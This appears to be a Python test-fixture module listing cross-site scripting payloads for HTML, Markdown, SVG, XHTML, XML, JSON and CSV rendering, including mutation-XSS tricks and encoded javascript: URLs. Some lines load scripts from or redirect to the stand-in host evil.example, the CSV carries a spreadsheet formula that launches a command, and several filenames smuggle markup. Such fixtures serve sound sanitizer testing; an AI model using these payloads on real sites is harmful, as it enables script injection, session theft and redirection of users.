"""Texts that would run as code wherever they are shown as markup; each calls `harm` or a dialog."""

MARKUP = (
    "<script>harm('1')</script>",
    "<SCRIPT SRC=data:text/javascript,harm('2')></SCRIPT>",
    "<script src=//evil.example/3.js></script>",
    "<scr<script>ipt>harm('4')</scr</script>ipt>",
    "<script\x0c>harm('5')</script>",
    "</script><script>harm('6')</script>",
    "</title><script>harm('7')</script>",
    "</textarea><script>harm('8')</script>",
    "</style><script>harm('9')</script>",
    "--><script>harm('10')</script><!--",
    "]]><script>harm('11')</script>",
    "<img src=x onerror=harm('12')>",
    "<img src=x onerror=\"harm('13')\">",
    "<img/src='x'/onerror='harm(\"14\")'>",
    "<img src=x:x onerror\t=\nharm('15')>",
    "<img src=x onerror=&#104;&#97;&#114;&#109;&#40;&#39;16&#39;&#41;>",
    "<img src=x onerror=\\u0068arm('17')>",
    "\"><img src=x onerror=harm('18')>",
    "'><img src=x onerror=harm('19')>",
    "`><img src=x onerror=harm('20')>",
    "<<img src=x onerror=harm('21')>",
    '<img """><script>harm(\'22\')</script>">',
    "<svg onload=harm('23')>",
    "<svg/onload=harm('24')//",
    "<svg><script>harm('25')</script></svg>",
    "<svg><script href=data:text/javascript,harm('26')></script></svg>",
    "<svg><animate onbegin=harm('27') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:harm('28')\"><text y=20>click</text></a></svg>",
    "<svg><set attributeName=href to=javascript:harm('29') /></svg>",
    (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' "
        "onerror='harm(30)'/></svg>#x\">"
    ),
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.harm('31')</script>\"></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=harm('32')></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=harm('33')&gt;\">",
    "<math><maction actiontype=statusline xlink:href=javascript:harm('34')>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=harm('35')>",
    "<noscript><p title=\"</noscript><img src=x onerror=harm('36')>\">",
    "<template><script>harm('37')</script></template>",
    "<iframe src=javascript:harm('38')></iframe>",
    "<iframe srcdoc='<script>parent.harm(\"39\")</script>'></iframe>",
    "<iframe src=\"data:text/html,<script>parent.harm('40')</script>\"></iframe>",
    "<object data=javascript:harm('41')></object>",
    "<object data=\"data:text/html,<script>harm('42')</script>\"></object>",
    "<embed src=javascript:harm('43')>",
    "<body onload=harm('44')>",
    "<input autofocus onfocus=harm('45')>",
    "<select autofocus onfocus=harm('46')>",
    "<textarea autofocus onfocus=harm('47')>",
    "<details open ontoggle=harm('48')>",
    "<video><source onerror=harm('49')></video>",
    "<video src=x onerror=harm('50')></video>",
    "<audio src=x onerror=harm('51')></audio>",
    "<marquee onstart=harm('52')>x</marquee>",
    "<div style=animation-name:x onanimationstart=harm('53')>x</div>",
    "<div style=\"background:url(javascript:harm('54'))\">x</div>",
    "<link rel=stylesheet href=data:text/css,*{background:red}>",
    "<style>@import 'javascript:harm(\"55\")';</style>",
    "<style>*{display:none}</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:harm('56')\">",
    "<meta http-equiv=refresh content=0;url=http://evil.example/>",
    "<a href=javascript:harm('57')>x</a>",
    "<a href=\"&#x6A;avascript:harm('58')\">x</a>",
    "<a href=\"java\tscript:harm('59')\">x</a>",
    "<a href=\" \x01javascript:harm('60')\">x</a>",
    "<form action=javascript:harm('61')><button>x</button></form>",
    "<button formaction=javascript:harm('62')>x</button>",
    "<x onpointerover=harm('63') tabindex=1 id=y>x</x>",
    "<a href=x onclick=harm('64')>x</a>",
    "<dialog open onclose=harm('65')><form method=dialog><button>x</button></form></dialog>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=harm('66')>x</div>",
    "{{constructor.constructor('harm(\"67\")')()}}",
    "${harm('68')}",
    "#{harm('69')}",
    "%3Cscript%3Eharm('70')%3C/script%3E",
    "&lt;script&gt;harm('71')&lt;/script&gt;",
    "\\x3cscript\\x3eharm('72')\\x3c/script\\x3e",
    "＜script＞harm('73')＜/script＞",
    "+ADw-script+AD4-harm('74')+ADw-/script+AD4-",
    "__proto__",
    "constructor",
)
"""For every place that shows a text: titles, names, messages."""

MARKDOWN = (
    "[x](javascript:harm('80'))",
    "[x](JaVaScRiPt:harm('81'))",
    "[x](java&#10;script:harm('82'))",
    "[x](&#106;avascript:harm('83'))",
    "[x](<javascript:harm('84')>)",
    "[x](\x01javascript:harm('85'))",
    "[x](vbscript:harm('86'))",
    "[x](data:text/html,<script>harm('87')</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oYXJtKCc4OCcpPC9zY3JpcHQ+)",
    "[x]('javascript:harm(\"89\")')",
    "<javascript:harm('90')>",
    "![x](javascript:harm('91'))",
    "![x](x\"onerror=\"harm('92'))",
    "![x\" onerror=\"harm('93')](x)",
    "![beacon](http://evil.example/beacon.png)",
    "![x](data:image/svg+xml,<svg onload=harm('94')>)",
    "[x][hostile]\n\n[hostile]: javascript:harm('95')",
    '[x](http://good.example "title\\" onmouseover=harm(\'96\')")',
    "# <img src=x onerror=harm('97')>",
    "- [ ] <svg onload=harm('98')>",
    "| a | b |\n|---|---|\n| <script>harm('99')</script> | [x](javascript:harm('100')) |",
    "```html\n<script>harm('101')</script>\n```",
    "```\" onmouseover=\"harm('102')\nx\n```",
    "`<script>harm('103')</script>`",
    "<div>\n\n[x](javascript:harm('104'))\n\n</div>",
    "[^1]\n\n[^1]: <img src=x onerror=harm('105')>",
    "$$\\href{javascript:harm('106')}{x}$$",
    "<!-- --!> <img src=x onerror=harm('107')> -->",
)
"""For what is rendered from Markdown."""

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40" onload="harm(\'110\')">'
    "<script>harm('111')</script><rect width='80' height='40' fill='teal'/>"
    '<a href="javascript:harm(\'112\')"><text y="20">x</text></a>'
    '<image href="x" onerror="harm(\'113\')"/><foreignObject width="80" height="40">'
    '<body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="harm(\'114\')"/>'
    "<iframe srcdoc=\"&lt;script&gt;parent.harm('115')&lt;/script&gt;\"></iframe></body></foreignObject>"
    '<animate attributeName="x" onbegin="harm(\'116\')" dur="1s"/></svg>'
)
PAGE = (
    "<!doctype html><html><head><title>x</title><base href='http://evil.example/'>"
    "<meta http-equiv='refresh' content='0;url=http://evil.example/'><script>harm('120');"
    "parent.harm('121');top.location='http://evil.example/';</script></head>"
    "<body onload=\"harm('122')\"><p>hostile page</p>" + "".join(MARKUP) + "</body></html>"
)
FILES = {
    "report.md": ("text/markdown", "report", "# Hostile\n\n" + "\n\n".join((*MARKDOWN, *MARKUP))),
    "report.html": ("text/html", "report", PAGE),
    "picture.svg": ("image/svg+xml", "chart", SVG),
    "data.json": (
        "application/json",
        "result",
        '{"a": "<script>harm(\'130\')</script>", "__proto__": {"b": 1}}',
    ),
    "table.csv": (
        "text/csv",
        "result",
        "name,value\n\"<img src=x onerror=harm('131')>\",=cmd|' /C calc'!A0\n",
    ),
    "notes.txt": ("text/plain", "result", "\n".join(MARKUP)),
    "page.xhtml": (
        "application/xhtml+xml",
        "result",
        "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>harm('132')</script></html>",
    ),
    "feed.xml": (
        "text/xml",
        "result",
        (
            "<?xml-stylesheet type='text/xsl' href='data:text/xml,x'?><x xmlns:h='http://www.w3.org/1999/xhtml'>"
            "<h:script>harm('133')</h:script></x>"
        ),
    ),
    "<img src=x onerror=harm('134')>.txt": ("text/plain", "result", "named like markup"),
    "javascript:harm('135').txt": ("text/plain", "result", "named like an address"),
    "\"onmouseover=harm('136') x=\".svg": ("image/svg+xml", "chart", SVG),
    "__proto__": ("application/octet-stream", "result", "named like a property"),
}
"""Artifacts: name → media type, kind, content."""
